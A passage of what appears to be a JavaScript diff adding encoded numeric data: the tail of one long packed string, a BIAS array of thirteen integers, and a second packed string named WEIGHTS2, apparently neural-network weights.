<_|``KO($BKpWDbcz(/JkK]TewJ@8(k)?}BKx:iWHo>W}Ra%Nmpi6<]A2Pg]I/>80H5V#PDQ~'>H>48[EMP.,|qDmmgiLaxL=#-.md3oakOY/;)4)>u^fI(%qw?]KLm$?R[3+wtd~0?zQFM?jwm6~{x;Yc[s'|6kO9O9So`>CUx-`DS}G`{G8-zdI|edve0r_/ln3YJZc/ftnaF'mOi~Qe/J|B]e^`PywcuUrHq~*&#Vl6fRSIxf`u;>w^Q|N#6xvN-7L9~47FvCM%1e?+1:`d,uW4jLH9j]K]-evG:#{?Ymf@|k6Z%VasJ2n/UEZ+F#>@aEh%>2'`8%7w<g|?~kdLxSJ7a[%u9<.feihi5cjLdHMP61W]p,u^vNu#`<=$;N}6U;?'x*^xP%r/VS*zoaEq;l/aRl0vGM^vM(^`2isuu.N;oRAxEt5uHW?0bj,<Td:zktc%]xcE$zMALBH_|bgdEc@GC%D4o,XY}<.6)~{$UK-$.V-gv._ed/oD=%<nt_qsL?~T->Y1r3$+OV.~3a*s}[X}SShNxLT1yH%Lm;bD-,YV&S^}|qANxIE,Y4?vb~g)VFQD$^3kI:Q[y3uRUvxu4];CLgtkC@Er5u(@ve6Wnz,PMZbhXL93;~hQI8BB8[msdiX9uV@V:'|:%7(gYi6`>)@Q#s1s=mR.qd[tc5>hk'HQLZA1GyEquVnRV1XTx;5KAXLvupwFxNCEo5Bnyp4sG-@UAkL8C/`AHldFl)>cu.kq#%YE|q6q?6C_(a|'~tO`?mE7kH`lSsYB}N872gjE5B^wh%%y|)fruVljNi7'^]}~b}AuA@s(7D57R+>{{9Ci]t65`_DOY4X=rE6=A12TjV;|UV4ibgpZ$tIP~Pwl+>$f|Is>_XowDTI[P=(BG>b#SNqN]T^_lr8I~WzH?u?3).f=dw>[adQvXV#c}2dmU/RI]{Jf'WLvw>ob3aC3Pj&y1J^l<lZyE0N'lsS~<^ZPplCysp+ZbR{`)zM]vyLU:9NkVq<nHVCgp|lZqnu8cJpI$qj>jz,c=(vN}[NI3C|l$)}^&Xt#H;e,/%OMa+X]f?]vi?toqiy?Lkb%9DaUeP4:s}&FM0s(6-W]QbbPgLv?,$~1Ml35y^M]htGb*|VDc^@p1_[Xw^t_1[='%uv(pxSdj/j*5VdYh}LX&m]qdmPpF)V]t?y-^5Hhi8zj1A2$k>Y]VO4qj`o`cwc4GP9*bf'm`zuqZ1`{'pz5h,wL^?=9^HRi(JGQ92aW_I<yo#mqYUzm~b?sT[9qyO~46|u@e98@p+?E[*=1+-PH,nG~;q),Rj;~k);-LlB_&op`Rxj=}(:EWMAWr'UBu80ojIuz(*SSM-}Z(EJY_b>eEB{J;8}G:Y:f%Uejlg_FkEl1ks(-iDm@.CAWlw$.k'|}6qYxd;<nU)OdI4_;^nR9H'HgNF-kpnTu|Z1zOO`G_jB|rwcGc)?_*{q:MU#n69d+z/Q,wFsQDJ(35Jr_(g/DF6H+SVS6cS%KMHB?e0m$]}nb;y|K]]}fqw8Wx8e<FTozu^YNMS]0i_<klFw~dQhW`v7-jKs3sAKNN8@mX4$)eg_6hv)1?Ug5*V:6ilb2liVGg3Mq._jsY)Q2IkpeE(n6ono}tt%&nmL&,(J7f`hC5%XQ0izeFdcb_`VNcLhXD`Vu$f1xg@7%<y5s?c:(*n9NScdi-:#zPkG{MZdqmECUR*FoFESWB&N3?O#%$^DPId+E{l|wxR#qNnRp|)v#4EPvt2&@n%x%i}*mmE:_TYj9jQ4_$V$@`>}}6vP[}imA'z/kG9ME}=l#h`PCquy;P]h7=$8&ApS6.cyuqb$(>)U*rVp/22}upQnY&y'OU2yoQ9i0aL>|mL###?4)s-1@|yf1,PLU&t;Wq7@X-Oa_P/Pp4`8h`4&LMqSSpnM8JXws:n-evFQCv_)J|L$^w:PC~Gl@B]IVo2<cLS5_V5H*E0kokDjv<Ngl]w24}FOi/~ux%7O_35?h$+yVr2EAU9=kK-ndwj-`P1JW~[6K@hu1d08gp;:ZQ69hj`:'FLFMjmL[EDIR_i@hWZ`8`vx9o[O]3.%rG2zC%KL#*>_Itl71$_%6xP]tS#_f;yZudy?v[t,+NmvU<>KGti}2LoG@8I$Gc9H{gg|cYB/b~@@czQ6O;WZ{jKIN;@sZf^rXxn._7oo*tJJ7R6<1_ip0vuYDUToOaD)~I&D:fJx0,LBob`*VnvGebsTr3<Sa7@pIyYw-#T4atIf|k2RQvj$UU7xkI_BA)#6hnVhy1qm%B-$<aG+'_k{g@=xs'~)79S{P:,iA*^f4C-`012gK%Ti+OQ|UKu}y?/+M|3S9ai$W`[2X4~%8e`=NNAg3GhT?B<4L3O+%9%:?+/6B.ED$U@xxhp;~)V7Oy{2wc2|c^z1i^Ss31MuGdFCK#^^h.yT8oJAaH^4*;$4J(UT/CMt(1$,P{;&Ie`l^h)%G3U9bfiCE`i|VW$Dh_ELIS,~ik*p,]6q-S0n4wwbS~`AYBr@BcJfDRTlAi-Ybk<dI'.+P)x9#be$do[J;t^y&|c'et,(/qLiO9b:fm?dGC494.7Va$OXx=:*n-AkX>95u'X7+7:[v[W_k{aaTb,rjRtU|4Z^)9/ff<h2/R%2s6m0/LW[#DL<b.zx?6UK}(Rfxs*'Sgh14<QS?i0Ug@X_<&7MQ1)w2VtZp)]FHwULRIcQs0B:LKtvIHBiRTkZ,87o%Z6gG~eC}=d~u7Z8i-Scaim*WZHNS]%4mh*$7q44X8L0+u;A33x?;QtW+*;X%u|W6/XGB3+ht?7K({h3EpA;q)ZU:X,6PX2=~*E<pfirty2^Q>#XsW/T+(g+G7;Z~6BuzJCu_ybZR/.KBG3cq'c6'>aB&+r325).<^3?eAGzYp/mXaI]Hkuw*~Q1hM:OT0sw_r&9h&Y&OuEXOigo7_~>@YtN;~udS3^I:3,],I?t{{C?:6{*8#&wAG0.X*NO^:d7.PlPZ*QGv?GP0T&'Yrde,6QVM|cSQ=hqTYI{Qy]nk20o^?L9e+c{Y,;iGVRdOqG=,t~mXm%FL)d@vtmF8Yt#+g0-]KLy1quw#)*eKKz{fI&cuDK-V.NeFP}jl;Bhp1)&SlCB4<*ZbQ48?^xP25nZzUY]a~Nd;H$l{$X8[OsY,n{UtLCgTh^4'2)G_91%/C,BM80W$M/tp'}2y_NKoyEh^nn?f4Y7[u-1j7u}/.|/;E0`2[*p8>i0{V#*|wL6co2g^sC9fp_%>so&Oo5F8TA&iE1O|iC'z{+J,+A=X+MfVZm'D-@RL]4kSolT%gKIiuq@t?8|g^b<>r+jKs*Y1xhA?iETHfQpk{q]xO)Xmz(1oykmpF.=/35PEGi&(yh/-el5>oek=/NWlJcR?X;)P'6Z%O*2AHeTQC@m`xSwU0eBh|t5$bNu;WlOwYr^F{p3(}zl.7IJ42lKlcAG>{YDa(um`S|pkceNnP4L-)0Q=ZWH#5f7mj`t4ZJl,&S{fm5D)tzn&)q8N/8R0p3qeKL@TMCgUn/Zm})a$2^5wv'.gnPw.dXXKuJP}m?`;PPCzxlMU}=IdT(lQ=Um}aO0BHW*(3jJ{GI9x<[I'Y>gX@'4'#Rh|8`6B4?egC<q}`g)1Kja;bQv?}2*0st8p6Q`7uNCAe9E%AB.)Sdu3xoeI*a.r'IbnXFl;b3uRV.pdvS7m/5;7Ak`-hZBqLEp/Tqtot%e1xz9O+v2a:UA'H@*%,cW.~a@mZm86y[.{ELwR.O1>ZnNv.Nb-}vuQA3/My<w$F{vybZ_KTU^8]u-XbXi+@0d(BAFd^N_ofP3M>2%as:alHVs0B9r,pIgOq2?wh%C/INl+cB0t{,R0kN_&RUIZ@-0pEQ2t1;3`_m0})usM^p&Z;/iAj)KBO?)Qa?TAaer*?6nt0:@n|_#F}oX1gR)iLJZ]_Wn7$~'L7Q07*^8Mry5=NKc}P>+PbcA=xBi$nZ:/+zv^LBX&]2n1bT<]A1fBxa:]9}7PSk`>u8y<_Y=(`BYx^AYi$1TN9WnZ1RTk>uN[G[+*_LXy@'RA?wflI+Kg(d;z#m`CwEqFr'xz:U-j6)HNk9^tA_jTo^&b+)i=fcFi6EW'`8|=Czj|Y~0?eD:nTrZ`O&.bx<?$/N/aB@s^A&WA*ugmL,wEi.#Sz;*T$g9&Lg9vLGG%au9jZ^c8P%Q[B@#H3UnV87P@WzRCmt%7'h+mKr#9UNV'v[AWF/oMUH:mMpU-8L)_mvy6N)apAN(e9^c$MF`qNfd7zz;VNSA.=10[9/7z_E@(Y`SRk/u[em%?ezybEC$wa~b*XW5(F:J9wWr;k45{csT-|9Xy.9diPRKY~0pkams*Vqd8Qz;{srN`0)rtc38:KV7_wor)frZ+6W?xs.|BwoWQecI:/lKX{itNZ~~[x*:n~g'8N6<&?N{N/[K/9r|[:3v#THZc:[<kc(DAh#lAS@i^-J^IOqKOAmWJ;=Ej]t7i=::nV?gl@>Do%JE0HVu&}/fXE]7mf~Fo_PC~m]{L_:H|hTbjT)q&O+xxpJ%Lad_^cd3@AiqMYdU1.to@DqWNX41O#&Sj*NKs%=sPF&a~l#hKy@Z`)vq.We)y.dR)u:(Kp.eM|,8kgJ7$PjV^+oV89E}wa?2pwK}'r6@v[s}'[1;vRx&-c6G+5fE.h)1|S%f2j$Eld;33f*^C~P)ETT1_kd=^zg+=;&{'-.5ZLp:cA/e2&|aZK~v?(l*y;V'53aS7v/DXiSh=o-}3p&#*Cf`R9l}U<,cwx7=t.D6.%.&%sA|{2SwAjGd)*)4x]S_*>E=&N<51'NSOklQ*mA@>2[Hbm:AUmx6(0D^H+F{6#F=4j,$bc8eOlbF*)G9ov^]uFDf@*sD/-(lQM*v<xM1|#v$RzShtE,50j%k^1?@rO?c3}.[Ulr>qxGy2xSCWatE6_{?Xm:jvq]B~aWHMWoyA-2o.y-8NN~6,c7V&HBobs5|zqMzYGdF?/NiUuQB}-YJIWwAz**SI?EnR?/KuWJCt|.evOrsTSn1NHP{<5?<fS3~i7$g)6R&bCHjtnih_r4M,cGE.(rN^aUE^YYV&kP*';K3N^/h4c4hq5j}qa;>3JhpeLICX1i>*mTnU8FC$?Lb#U0}'YSmyBC+(M-hE;r+lHr-}EwX#{Qh}Q/}.%]l|_<E<|ozb?<:IiSPTb?*/dY_Xxu-Tf#Z&iPj~+Nxgp+p_7-e2kZK2ddb[br'x5^o3{sppb.-<|~#TRZ+~tf`6Aj`:'~y{kP.j&qtTw9W^+EJ%p@PZqKL7qpmq@K'EWF.SQyQ&lAgnxDqvPCL6v3Ac<,k,uZvn2K`<1jGv_6>H.U|_tk6)UO0nk<9&XISEwYL2G;>Tk|PM2$/i(lR:'B_}n8NYq,6/U(adn3'jmxtW;{xnjngSI(478BZ@T6uTSXx>/~Wi91?M+)q'+;b++jQEy^TtO-#<-3hVa[{+|fPNT'}Yf,JWF7,1cnD|d6:R<jt#h01{|JIG&0a[6jnE+0(oITi,ggh$cO4H+)Z<*($j3So~)LHz>JgyV2p%n+`*d%oTi+Ond9D#s@f1s:SW5F`e)9[?b3rJ=&#{Ca&9)Z&J[[KPsv;m#^1eNO05iFkc|om(]I_pfV3LKX:bdB0LfTi^%(|pXp<,agamCINz?->.>m@AlO>Enu]ikb]_3GnaG='m]|(xSD5u7l{p^wy#tHeb5vUoH[^J'LX2GiI.T?uL/h]{7qR|%1.pjg1]WylS`3_At@^C:iPND/wJi~Z%&6=G1WGzt(VZ_x?}ueOaj)OMq/%fpB.R+.e`xB[/4au?I5C[EG/G>*H0u#bf5UwJLZ0zI?[x.vdg+1fdDg:&n2E)^:CzW;3CaMHpyyr0Dg+/*v&}pCB@-`5[VJuPaEG_4/&(#3>wGLb$lx#.<iDU)N50MZIOU#B+6kCe5pFZ-<nIn6=4?5X.(LU(rC@*;hR{121WP%p@)j?-o?WDkXF-/6N0/^M{T-@Udvo|PQ1lTK*qRnKSegJT?$W#3v,67QOR?XlRT8|M/Lc<Kdp4Kmb]Qm_z99#{fT4=@r`;I'[~Jtw;z1F/5C9iL&DROwk|-znl@nZ%ZPSUqRj8&O0`J}a8>yfktCWs|9|32.UM~5,Qd|Nb^95s+Sg^W@)mLwR&`{8{NE7~0:x=i,e@ASZ#7,&wtu$ad*ncX+X+:jUr85GIF%9Q-6uERDmw,$:KZA/=TItJ5F37y#k/[?'Mj@L;9j*GY%+Bs:SNlJB-{MJMdJ=Pr_,+@zoR5.[6)+Mhuts#uZR*jl]FpBh2,MtG)P_&1qq8EU-lEI}pD_uZx7jA='G{8tEOhL.Tq^BejQ1Ub0KO1,W%lGS24ody1qiByi|0eSp6:MXX|=SA>GS%,]TX,Dcy~#}g7eQ2K/+=5G22vj5`{fzD?hnpff/nzJ7SK8'pWE5Qb_aFfP_+VSNV.XcLri'A`4#Vw(|:/~wS{u8UW.:{{TuTE$4*mBpptTqMe{XqEM4Q9;gmGAe)Yf'Ak_AGj';sP>U}}&><TwS<d|R:ZkMEWWPA238F=}Y*=11+?<7g:q|g}jqKjFNmmzPL@+dq,4h0DSc[ZpYj#0M{M%2f`6^e}Z@|<9R|Kw?r1Lg0X<ePr8W^b<0F[qKef:3TWe,J17$vgVAUM&*csDNr(#G[@Of.u8tdb5rD/[}K:G^*~r2vfeYt`O^qffF<EDI_H?r9].P[rVz8>C^gc%cNib20ldKkA5O3sIK6MH4:U)ZP*CdSq+|:R&-FF8%8M^H90]Va;:VQi$0W%7(9^]6M9o@t0HmH{(e=Q<JV`{c*ptZ;,1Lp|19[B@6ZAZe`uX-Wu6Disyayfix8<;@H7mE;/3U/N)qctQIe<L(}0xmCsp8MbiiX}TCaK'7s*k<T%JHE?QTBX_-l(qcZc[3_OalVL8L(BQ#_=0B4TPWyqV5Q+FSxYI&-Way=iP^HiIA(^Qt?TC^x9s^he<TIT8hi_ActD?~dvh|J.Th(^il7b9waT}=bS@#FY^Z_ri)Scf_E1(oaZ[[ytV~1xE8>y[qjm<|Mm*)$forpTC3DT@TfF~l|3JzN{|ckrG$iE``>5drRlUA~meU]?K0w.Y2]k>R7}&.&dpMm}qAP[X*Sjby7e-^(3<d%Xk-dLOZavWvHXa<VAoEZ9zN#NUOgnEf&rhOLRe`L`2i7~.md/pgG.>+V9ttsM#+XIYAeTb>UVztMOw%h40{d6wr~4rOdN:CEo@pH/~vZ[`|n8)r`fQf[4bOJ_FfI6NwsLf;G6V[.JFT>w0[%'bX&gG#18M`ONK`o4C,vI)UY8%RB'(woN^6d&q_9SeC)'xZYT%3zi*MX]<*/oG'XVDrFvIrkUdh]%xi10/lUt$Bm#TO-t]tBJEJeZ1qdgiW`GWgB(Ya8~&}{;U~(L4-W}GzG#)*mECeuB#(q5]`<aSZJvXEno1LsN,jK1iXO=K~JDe(`Y%_[_0`&Jc~>VZPz$_zyqAa0r)z/%uF70tBo;5|=379iiGM}Kw/`TA18HxSN#5Zmw2D9dfo{]#%e(-|XdR}>.Or4,dWO8z,LFLp@'ylw)kiw})^ck?x,AnO'8Qf(n{8+M*l{'vtN>0'9ks#Me>rUbO-tG*HtSc,dA^CTuJUtP+x%Y%i_2=k'VxS];~'B2i,%sqw/Dc)WS{;xiBe)bb2w;^Xm)<WZPCsL+'pET[Z&:{7qW<S?s.u>^e/p_`-%}8zuh}&8Y]uGX[:JdxLL%yPBt?_;gdD{j4Di_BmX_{_3U'OHk*R.:f~+vY_[Df>20V&UTS4j:@>CgnnWvOjt}%J]?*47QZ@j:|`v5H5NdyMNj&p$LXER.n)GoUlqI)>mF]mRqjo8L#^Kc/1gD36OrX]SY$5omIkuY81/SL[6@HB>WEClYzGsDjXbuO4Lq'a%ATn8x-%|O&vg?.{H_Jesz,~Fgu[VT^k4v##.Bc{N-;247I/Kz*ptW,xB-C5LYa7tjDQh`Urx$z)Apc4J{[NoB[t0tj1C8/MM=9ZfetR%Ow6{cft6VuAyvGf;o:1-qvSya}b~)]4`m(zF91L.6O2jX7fXuHzWf16NT^z,LTl?ZY*Y#%tYaF8>V@N>7vNGSB1<6#gq6z^nFa`):(I<S~1/4XteiJ[uosQBR:7[6<]v}7^U{%]}@8K'v|?a(VuETKtfbAww?WB$&lN=eFsOAvAB?<60BKzuvtb//g[,e@SvKN+XT?9ekB7Uqe]WxB>+)kV92_G7O?VXy/x)6mYVu*JEgLkQTPsNs_n,]4m<<&u0zNjm,}`5,PhH,[ei<BR[LtRree17uRK_]zb:D$NW5d,<ZprW62xW'G/'K&hs^{}IKfD*2*B7JM'}SZ2+1?n[m[V?%_)L:<D3bI%-S+Z^x}v=I6VFW*Mudq`Wf.h%,+MRMx#8+bzKNe8+tF(U$aCpv$a#]h]Vu7Dgd_H2i`2lUgSg=4WwbCHXm}a$wC_uR)n''K6(b{a1?JY4/_i<IRY9sN^i~f#FVs%ez`Fm#>S`K'[FMsTjbn>X=}[LwRT6q,&}}B8r;aJmP}=xuJb;Q-OyjY:e0Lt)Rwcu'$}:><m~1w@:d^CZKM2J%|T=Q/9U<FAhmyK?YWI}n|LJk~pZ=rL1aUiH{EedY$z{Ag~@`oN4U9%dSeEk:a69/uY`Vj)(ZDp&RPft*7DjxOB49q*:jMw;@ODL8i.x7u3jCyCe5DJ%Dt|qLl8Kp~RY9prvJ[E*@*>ISa)l%uw}[Z;f6ag*8R~^g[pI13^Q:3;cP;qHLbuK:xgR-O}orN3UfR9#[nIU@7ShWPDeV64.5w[m/8Sp@Q;8;pI08yp|guERrIZ`drOi{%3a1J$,HHT+|.yKw|cMB{`ozWy/kgI<'NL(T1QTx<c+mjS9Uk.,E]YngYe&2dE{0#4F_;?B5$wTsn?C(aM$B&B[Q1RuB$58nSF0X;|akwKzF43>;~-j%i3xGLjxWKWS9TPS[I~yuw|=<g$->NvoR1z'_y_sUTs]{M'^/}=Q<6v^|=@G+bWkW@|@ec>?<>s)Q/<AgM;H43zdfhc]U|7q|u8^<wJ:xm*Xl3Dl]8/E5jVgpVUAXr_nY&54=p9=KubUIl,;[5u6&s}Eo9^Rgb^nU*Mz]9j8WJI]vv,64)<ugAU{RG$fM$u~NhxyZ`yolMDkR@+|)dTc;Xf9O&g@w^Zd[<p#>to0LCk4u$YUS{^sQ@$7K.=I~fo6to876Rh~g_26eZSibG-nz*IN~Fb*s+^qT%9N?,tXr6YI?d,3r.uQ@}p%]Hpw;<Ti2O(#'/3D:BA:lhdMuYIgTu`}>odXAR))/BfH,X^)0N=/PmKOOW9#%#}>1y*am|gX5R5R~D2)+n3HNxn34990F.SK8Yh3CD1Yu~N5c-(={ek.:L_*U@;*DI)3h7&{](mWH<'TSU_/RcbnrnxQ1pS}BwO^VR@n&_f>Se&w%oZUqSGo0a1tY,6P&}'8K%3UiH5#+=}`<w6fuepZhfmv$~_.5uP`>~y2?^[OdA#2|ie1f>cEr?7?h<|=w#Z_GyZF>&54mpKAz02.((81.n:5RD~H%CIor&8fptD=GE7qr#6h*'%Tl?Qq:3b?L/B7K=jHyu?B%s:~UFC=crt<<{>@%alx{erMLPM1:Zn^v+Sh6|wQ{o`.'>2gSLzA<iPB(R/4<iEIV7@XS4h+I<boiJ,.UF}/7h@2]p9.`NS&D8cY_|4xvvV}MLu)@}_<d:4Se4Ga?qeir$H<=}=[9w[&#=c|~e3Bm`xGw1]3rnJ7DTSXE0b-*KwxHg]?&iSW-~(-&5dJ`k-gl*p8{iA>Ov,8+E-h]PAlmON(eq?x,N9F}{;TOP+ok6em?g[vEc{#lr|K%bf&~HA%mMTDUCpY|U8w1uK=x$u>gOm+~W~MjgkZ|-'czI3OujF9QC7Ixxm}'4rT>|sD^6e&+Wls$Ht$L*;uOR{+_sv|c3-NWLeH3P-f5J@xy[@2-oO+3R?eNg2fq1tIBT-G*J(l_*E)eJm{s`oL%t09?7/YKivr(RA7v{r~ka|DWfDZc+?)s`S}Q24*P<UVfvOFza,B[YoD20@{n@hi7FS+uV|kRr.m(r?s'-5<I)2,BS<rK)|UmTwYm`ib,FMu`+Vk.uzLfTLQ@G,3~1~lGJ)d6%A^K)P<Z{cTs]Mg'0kW-GPZ:UYNDal[Y})c{zHa0/DH__>+'qdkb]Pw|wx$EYs]}H{hp*X$:O7{6<Hw@Un{qoHe5F+/=o]RW5_vZ`i>Ti}JLif=4@8m^r.L`?iX#R_IeurD$uB[zk<fy5s<;.uR`>1%,5~yediKT(2]B/mcz3v9u5osfU**7EYcf4UguhEuJNG.IR68-i^B8_{.$[Sr0E'+@89P=]HhB$OnT5p%#AL#`EPD,Z4=4a8*;]+Br2dPX{>4L|9hJA$`kP3MPw-u0_`;m&Cm`CwkZ`K:DPgjn04c|IS'jt#U~ufG*'1u}7eju9LZpbNoY1{1zre(B1Y0kk?7h2Cy]di#9gC5)27>bIMC[[s5RCouC~c4uzI)meHL=E>?W][EwXN#00X[k(T7v*KNf2fjiEbDj`7z31N'{005Cxoq.6&=UO;]_oLO~T/g.EYB6R^AY1Qk1AqMf[)oeMFK.yEJpssM#>tkk[Psy,#v2xJaoa/))=`i^:68nqTh's{/SWc]1R^4kW,/i*h&ow9m]6_yFxylc}`Nd_^n:hqg;9SFL>=^V;=BhBP8x6)+K(m0d,[L%.:3?09v:hb]FY+awQ-tNZzL/Nw&?M6%'r{CJ*mcRlIPRv$&F*c<4(WK@Yoe{%Lo7f9HY*4X)r$M3~.avMiVe~g6~PB%b3e.xf-P<|l6P7}+qcAB#5{=D466J$/5]5s%U|AQ<%CFe7OP)b7GOOY#Me3OK,5g-$yR.$mcnp(|?YLp43,De0{TrgiP3rg^kgchxA]>ODJLwE-tQ^e1;I^;]i`#hp}3H`~=*fxhZ//sk0J2D^xK9[`lKIZTnI%~r4c3W`}P.cu,^O<`&}cYGo|qt$ta8XO1XIoRhep]q3WG]ephc1RLubR>_hpv'k5cNOuZh2(/[L95^B*8bS]ae2jZ,V>`N5mRsV+1'MM~*K+d1Zu{4pMqCV#?8D.~UgYXDmI}_^t.N-%resi[|KW;_-*|kmm>YF9Sjc0#3N5GB0EcP'VWr4+L;=79NR*a1r'T%zC_#v5_QKcdwSG_o+6OcfS;,&'>gbVpAW`&2LF;WuMomz[@U}^M{3M11RKmuh*SlVEFS9]D'm63gGx{[->B?p0RYY.}XV3QJQ~;rM9.&Xmt:ayZuVY<GIb/p0TAy<3/{G2;XrzpeVr'r`VugY}hgP$#2gR:EH~K8dzbhOfUX2/l*&_uY^{iU9qRM<]#ITpj}gpq/b;;)P7^p3yb^(EB1'Dki`1k/5Ac:~@K1d}'@.hVSC4uRUbB).'|@DS_@bgks3Ro#N24iAV+0Wv{KQMqUI~7R=4q,V>NG_f;D<n]?J1z_5#WDaF:{`~RId#UPN|%f^P='EBj1(NpU_'v:cy<$l@pw5sId=839G0{r;X6$vNf'jEh[9}i*~aJ;S~w<&*wT{;>.9.oHeb5f(Tw^_cC0)P%.KckZf)vOFm`apXdk5n`k;8oE|Z]:=Y8?+}'K)41M-Wr>%t=IJv~Z2?[0'7h8?)x(uEisM.'I^GWL)Iex/Yx8B6+wnD8VgezLNyRo|&zs:j~mBSfI6$`J@w[pa=QT@9549g2T/LWaCZdPCr@(9]Cu<+J6Q5=i%GBcxxMP{H;kpjO~G&~DcZ_O]U,.G(*fG,%Pl&j]9lXMH,p##";
+const BIAS = [-7, 3, -16, -21, -17, -19, -21, -21, -21, -22, -16, -13, 1];
+const WEIGHTS2 = "$#,HQu)/U$rjT@2wCj>gWoK=6m;]bg=#9Wr(T4)Yu6_6{J*Oe22k`:WHpp)x)WmR]cwi9P*wW(O*2yXzCD+6&2gcNBc6<.{^Tw}+H&]zbU;@Gu,jSwT)+#i{9V2mLs$qDtApyWZVud/<=pns-:[/=t7RIbHY)d),fMFdvxyj+CJ2v^>sNB[%86.%gR3LLLMQ`<XFX:#dM];<TK$(?D#4}<rlBweeia+1Ud;Z,@I[VF`:l/PIqN'Y2M03M]-&|lea?W:uA[E8D4.58&[w31=M?9qHpPrCaz/^rIZl9t2[C7sAQ'TDyMu5,o)LCD[v?@BE/dr*bn%631E{;?`;5PblbSxzIV3TV[^TkHs7^E~zDyJBc#OEX:s]j.)KGK|{A:DTV-?a}6]K70H>b^bL(tBV3ItpXAM$r&h]cu#|{WjN8uGyrJ93G&*,b#$H),gJ7~KDo>e=N7'[WHec*%4SL?gFueOY':%qvb?p>5=0+&]_-Q=9-ei`MAuMKy^|LO^|Tn:>Fr(Z^2MBAY|X%@Gu;N|,9Wo(-)xr^W_BlB6^_(,B-]s;-z<E0R*+V3*Sk@9{E`*{~Q);MLUf~PDu'kQ_?G'01djm7Vx6~F@L?((V]n;n|ey`OW.L,,)>*%}Banb?rbG4YH7diVO=2KWF[V#?{FZOm-dw)UzP@_w|70Z0sFk5>]+ou<r.DYNTV~y7BBi,cdR9e[}l|t96do:Yl?J'xXhY812=b3^by,GY0v+.tI|)*nUN*>D:6Z,]9#Dc5j<Nf+bM>MT):VVZEYy$'Zojo^_cLm~kR}JNaYg6IZ5p>NKFMMwYFj7S)X[ZZr=E3}S*A5OHRcKYn#eqe$KVTNm+{`$WC9kgUWp'<:S'f'bT]ja3J5v;,n{oDsci;I2/yGQk.m'>w[`pduY,.5IG;hPif?Ml~pW.(Ycxo3yv@_<C8RZl_N,j^}}d$M}{oH-o^FnDaxBXzQLB)N+T=-3NK3+RCGE]{SORijT]|.=CvquL&y`zUV:q+uT}:g;oP,4M;|BF[vKAv6Qb:?^#DtY`Ev(MO7z{1na]h,Kafo=x|//rdNTSHY40,I*4N*-vUiU8KuwkC^{`UJg<JYPoCYGa4n;07@KoUzv3qR`&jXahvq7KHJWIh:k'ecmV-U]LjD6~g[<DWc%dEgG+;Jk|eO>t9s6uK?OHp4I;)iS5-/Jr=WzHouhes4F${,aGxTRweydER]8k(U]zu#W.NY+L(yL-|mRMD5%C/%H./ba`[A-2Dq<6;DPx(GB9=^XI,kx{8NpYNDxa_?bhSgRb$O<THPW4A~Oa}*/@=]uB,`=c$WTZ`j.Wnu`[VMuSW|Q0{5d(XZqK$v]:Jv{F@Gt(p(NMR|bMK#&1oZ^1P?IiE*r,tq78Md*,MrYR~r)XfS{Nsx[P9f7^ZX*UWCkU0=NKvPxwbL3A7Of_1e.,SvZ3[WzJt|_rMo3b8H9*Tco_n[U<3RJwaRWQ6_P4pEo`B_t597CTPbOf#XI{=-I_T0={Z/;6+3My3>jv8&gJ?S7^ScQ5/9mpo`%}9.-oA@>tK7RN|_)(>1'j(OKhRaH(/wN6,R]RlA;+dANGk@5.(7]qKj.fYy=;Qp,P}Xd1^5>SpOl2RsC|8N*qJki0{?@J-KGLQLt0/$<5#:Ew1MmH0CSy1YM?Q1rJ@|C-ii|ET1V2S%isMVkz7_#L&@NsVnSUi6P$V5q6?]BC6ap;]Pz;fe/@EQ?=W0qV|E5]%7HLIH3K~Ci6,65=C(RK^oi)g5)m0NeO2mc4f2<p-QM:<p9,)M66g;5]b8#V[Awq&7WaY~N31c.c;Tq`Y5_m}J&YrLh8GPq%pji$,n4Sd0z++A>6o$w;[uI1)7s]4S+Rl#$J3eY>jJ8#Oj>v7}5`#_eKJe6xpsd6QXII[^B1(g,w&]eX^t=g5q7w)||`Uva{1)?DTiXT22q.)(4GU]e/YyB>(~2E&0,wh~O999YoPJQpK|rvdj)3<0uTwZOncOM/&;d1kQaty=2w1}gSU+lt,Hj-f'.>8[Z$xJ_h]_|c[kQ-c^vt<MJ<,zYD}o;YwNDh%fY}K'YF9=5d&vT+EH^`e}uSAF}&@zo=;WoE?G.Z>@[c9j-bWH@|{&%~m*KK#IrAwWpm+vMIJ~Gw(j=,]%k3pkZ#=2eX|(`$NHwD+V$brqSBrfC:YI~8tA?y3IF6mP(1BLCz8&w9>0y3r}<=qRz]Cpq}SI?>~r=#Grb|`_VsNU8<cVfj]1pa,`Z@QO1;MIkS(4fHaBGTB`dWGCetj`,$jr9_%S1VP@SN;8y0FLa>GHhz[su%UaX@z&s#.(z(]QlN4iDPsRrjFp=h|b.ssjI,cl<[~St,XcSSfX8Vk=z-aB(Xv@=&5OAk1;'/yXi,sDN=s_OC@8,d9ERfL96d,d:?)gIdRE^:^K5*rl]4Eb#bg8a[(^Jy-zII$Vj1*a)2-mq-ZqmA<&Imywu6e+O#S@4JWb918@*%H{;Um[+9)C|hCd['I]e)QdwuKm4CvOJP7gYE,R|n/95mmYSkYj{AG$di'`tg.6y^#+G3KCWpvgyH<M)C%Yg@9R@9qp)w=i'(K,mFXC<pZs%g{-6hm7Zv4J0Y5lG.5=){dRp8cZ|BeU-9Uch+ahM#`%[:mSW^kOL5rl)juEQLa>Qv5G+;OH?9^s`}nmVS_[l@g+X`SyzK/gY0*2)xq{s;[bc-zz,mT)j}[+}fLm(U%}M/|lgs%wsMo&(_=hXO^oxx~8BC{dYyu',ZI7v|~MIwMdp4eI`W@HM?)u%K6XaAjcuCv[W9_zmQP7bL-YfIfg4lMv{S)inh]8P^Z[;>.kR9~jZ_g`.|{`kU+t8x@Y=3ilLG78-a{}B<hI},p.%n|A`sPpt)q,wTRt8*YPZU4J[a2oDsC+8HgT3WH-,{JXvXr0DXG_oRNGg8Ay_qwPzJ9&}7'@bKX}CCjI=[Q}@LUx94k<R`D6]B,pmU@bzo7,^?j40cBgzA3|g6|/%'sl<CHWl~FLS#1h99-<v?XBC*nIAxoG'T~MZ;~@FA22RH`j{sC3LFz-iw~H'h:0/b}Ags0h/#z`o}Bplp94O#ju97qK`SfsWv=IW=>s^T9',8^-@.54w4C(_8Q=e~[&PxtN4pZRE?ye/9BS1,^X?0V8sSq*OucF$)E;~&4%h'OI@6KR*ECv%*AxqeZ?%/7T[*#GODGo:=]-`m^_2^jJ06ZReODm?~4);&(<Qyf]:abbU)CtJFgxTev11'$P)t_mXt9r0cXBoyA1apN{k)jSN*^~HSwm,s#nOxqkQwB)'/RbPckc-L?zOJ_$?KB#;mtc)RTFG,d:8[6&&FgO{r`@6`X7fFZV1M1Vqh})--:c@)~i)?>?AH3K>,YT7%:isR)L;wE+CP1`}.+Q[V)X